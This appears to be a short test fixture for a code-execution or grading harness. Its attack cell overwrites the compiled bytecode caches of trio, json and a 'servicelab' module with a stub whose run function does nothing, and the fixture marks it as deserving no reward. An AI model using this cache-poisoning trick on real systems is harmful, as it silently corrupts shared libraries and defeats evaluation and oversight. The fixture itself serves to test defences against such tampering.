"""
attack: it puts compiled code in place of a library's
deserves: nothing
"""

CELL = """\
import importlib.util
import pathlib
import py_compile

import trio

pathlib.Path("evil.py").write_text("run = lambda *args, **kwargs: None")
for module in (trio, __import__("servicelab"), __import__("json")):
    try:
        py_compile.compile("evil.py", cfile=importlib.util.cache_from_source(module.__file__), doraise=True)
    except OSError:
        pass
"""
